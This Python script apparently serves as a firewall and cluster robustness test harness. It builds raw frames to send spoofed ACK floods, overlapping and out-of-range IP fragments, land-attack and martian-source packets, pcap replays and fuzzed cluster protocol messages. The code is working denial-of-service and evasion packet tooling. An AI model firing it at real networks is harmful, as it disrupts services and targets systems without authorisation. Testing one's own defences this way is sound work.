"""attack.py - what no well-behaved host sends, for attack.sh.

  flood DEVICE MAC DESTINATION_NET SECONDS PER_SECOND
        TCP segments (ACK) of random addresses and ports to 10.1.0.0/24 through a firewall
  fragments DEVICE MAC SOURCE DESTINATION
        overlapping, tiny, impossible and shuffled IPv4 and IPv6 fragments, with scapy
  spoofed DEVICE MAC DESTINATION
        martian sources, source routes, impossible flags, broken headers, with scapy
  messages PCAP DEVICE
        each datagram of a captured cluster conversation once again, then with its header changed
  replay PCAP DEVICE
        each frame of the capture again, as it was
Prints how many frames it sent, by kind.
"""
import random
import socket
import struct
import sys
import time

from stray import checksum, segment


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def raw(device):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    return sock


def frame4(mac, source, destination, payload, protocol=6):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0x4000, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return mac + b"\x02\0\0\0\0\x01" + b"\x08\0" + head + payload


def flood(device, mac, net, seconds, rate):
    sock, gateway, random_ = raw(device), mac_bytes(mac), random.Random(1)
    prefix = net.rsplit(".", 1)[0]
    frames = []
    for _ in range(20000):  # made beforehand: sending is cheap
        source = f"198.{random_.randrange(18, 20)}.{random_.randrange(256)}.{random_.randrange(1, 255)}"
        destination = f"{prefix}.{random_.randrange(100, 104)}"
        data = segment(socket.AF_INET, source, random_.randrange(1, 65536), destination,
                       random_.randrange(1, 65536), b"")
        frames.append(frame4(gateway, source, destination, data))
    begin, sent = time.monotonic(), 0
    while (now := time.monotonic()) < begin + seconds:
        due = int((now - begin) * rate)
        while sent < due:
            data = frames[sent % len(frames)]
            if sent >= len(frames):  # new ports: a flow not seen before
                data = data[:34] + struct.pack("!H", sent // len(frames) * 7 % 65535 + 1) + data[36:]
                data = fix_tcp(data)
            sock.send(data)
            sent += 1
        time.sleep(0.001)
    print(f"flood {sent}")


def fix_tcp(frame):
    tcp = frame[34:50] + b"\0\0" + frame[52:]
    pseudo = frame[26:34] + struct.pack("!BBH", 0, 6, len(tcp))
    return frame[:50] + struct.pack("!H", checksum(pseudo + tcp)) + frame[52:]


def fragments(device, mac, source, destination):
    from scapy.all import IP, IPv6, UDP, TCP, Ether, ICMP, Raw, fragment, conf
    from scapy.layers.inet6 import IPv6ExtHdrFragment, fragment6

    conf.verb = 0
    sock = raw(device)
    ether = Ether(dst=mac, src="02:00:00:00:00:01")
    v6 = ":" in source

    def out(packet):
        sock.send(bytes(ether / packet))

    counts = {}
    for number in range(20):
        if v6:
            ip = IPv6(src=source, dst=destination)
            ext = lambda offset, more: IPv6ExtHdrFragment(nh=17, offset=offset, m=more, id=1000 + number)
            udp = bytes(UDP(sport=5000, dport=7007, len=72, chksum=0x1234) / Raw(bytes(64)))
            pieces = {
                "overlap": [ip / ext(0, 1) / Raw(udp[:32]), ip / ext(2, 0) / Raw(udp[16:])],
                "tiny": [ip / IPv6ExtHdrFragment(nh=6, offset=0, m=1, id=2000 + number) / Raw(bytes(8))],
                "beyond": [ip / IPv6ExtHdrFragment(nh=17, offset=8191, m=0, id=3000 + number) / Raw(bytes(64))],
            }
        else:
            ip = lambda **more: IP(src=source, dst=destination, proto=17, **more)
            udp = bytes(UDP(sport=5000, dport=7007, len=72, chksum=0x1234) / Raw(bytes(64)))
            pieces = {
                "overlap": [ip(id=1000 + number, flags=1, frag=0) / Raw(udp[:32]),
                            ip(id=1000 + number, frag=2) / Raw(udp[16:])],
                "tiny": [IP(src=source, dst=destination, proto=6, id=2000 + number, flags=1) / Raw(bytes(8))],
                "beyond": [ip(id=3000 + number, frag=8191) / Raw(bytes(64))],
            }
        for kind, packets in pieces.items():
            for packet in packets:
                out(packet)
                counts[kind] = counts.get(kind, 0) + 1
    print(" ".join(f"{kind} {count}" for kind, count in counts.items()))


def spoofed(device, mac, destination):
    from scapy.all import IP, TCP, UDP, Ether, IPOption_LSRR, Raw, conf

    conf.verb = 0
    sock = raw(device)
    ether = Ether(dst=mac, src="02:00:00:00:00:01")
    tcp = TCP(sport=1234, dport=80, flags="A")
    packets = {
        "loopback": IP(src="127.0.0.1", dst=destination) / tcp,
        "multicast": IP(src="224.0.0.5", dst=destination) / tcp,
        "own": IP(src="192.0.2.2", dst=destination) / tcp,
        "land": IP(src=destination, dst=destination) / TCP(sport=80, dport=80, flags="S"),
        "route": IP(src="192.0.2.80", dst=destination, options=[IPOption_LSRR(routers=["192.0.2.9"])]) / tcp,
        "flags": IP(src="192.0.2.80", dst=destination) / TCP(sport=1, dport=2, flags="SF"),
        "null": IP(src="192.0.2.80", dst=destination) / TCP(sport=1, dport=2, flags=0),
        "header": IP(src="192.0.2.80", dst=destination, ihl=4) / tcp,
        "length": IP(src="192.0.2.80", dst=destination, len=2000) / tcp,
        "checksum": IP(src="192.0.2.80", dst=destination, chksum=0x1111) / tcp,
    }
    for packet in packets.values():
        for _ in range(3):
            sock.send(bytes(ether / packet))
    sock.send(mac_bytes(mac) + b"\x02\0\0\0\0\x01\x08\0")
    print(" ".join(f"{kind} 3" for kind in packets))


def captured(path):
    with open(path, "rb") as file:
        data = file.read()
    order = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    at = 24
    while at + 16 <= len(data):
        size = struct.unpack(order + "I", data[at + 8:at + 12])[0]
        yield data[at + 16:at + 16 + size]
        at += 16 + size


def replay(path, device):
    sock, sent = raw(device), 0
    for frame in captured(path):
        sock.send(frame)
        sent += 1
        if sent % 50 == 0:
            time.sleep(0.001)  # not faster than a socket buffer takes
    print(f"replay {sent}")


def with_payload(frame, payload):
    """The UDP datagram of an IPv4 frame with another payload; checksum 0 = none."""
    head = bytearray(frame[:42])
    head[16:18] = struct.pack("!H", 28 + len(payload))
    head[24:26] = b"\0\0"
    head[24:26] = struct.pack("!H", checksum(bytes(head[14:34])))
    head[38:40] = struct.pack("!H", 8 + len(payload))
    head[40:42] = b"\0\0"
    return bytes(head) + payload


def messages(path, device):
    """The wire header: magic 0-3, version 4, highest 5, type 6, key id 7, cluster id 8-9, node id 10-11,
    cipher 12, reserved 13, length 14-15, boot id 16-31, counter 32-39."""
    sock = raw(device)
    frames = [f for f in captured(path) if f[12:14] == b"\x08\0" and f[23] == 17][:20]

    def change(payload, at, value):
        return payload[:at] + value + payload[at + len(value):]

    kinds = {
        "magic": lambda p: change(p, 0, b"XXXX"),
        "version": lambda p: change(p, 4, b"\x63\x63"),
        "cluster-id": lambda p: change(p, 8, b"\x77\x77"),
        "unknown-member": lambda p: change(p, 10, b"\x03\xe7"),
        "unknown-key": lambda p: change(p, 7, b"\xc8"),
        "short": lambda p: p[:20],
        "length": lambda p: p[:-1],
        "tag": lambda p: change(change(p, 32, struct.pack("!Q", 1 << 40)), len(p) - 1, b"\0"),
        "boot": lambda p: change(p, 16, bytes(range(16))),
        "empty": lambda p: b"",
        "noise": lambda p: bytes(random.randrange(256) for _ in range(200)),
    }
    for frame in frames:
        for make in kinds.values():
            sock.send(with_payload(frame, make(frame[42:])))
    print(f"messages {len(frames)} " + " ".join(kinds))


if __name__ == "__main__":
    verb, arguments = sys.argv[1], sys.argv[2:]
    if verb == "flood":
        flood(arguments[0], arguments[1], arguments[2], float(arguments[3]), int(arguments[4]))
    else:
        {"fragments": fragments, "spoofed": spoofed, "messages": messages, "replay": replay}[verb](*arguments)
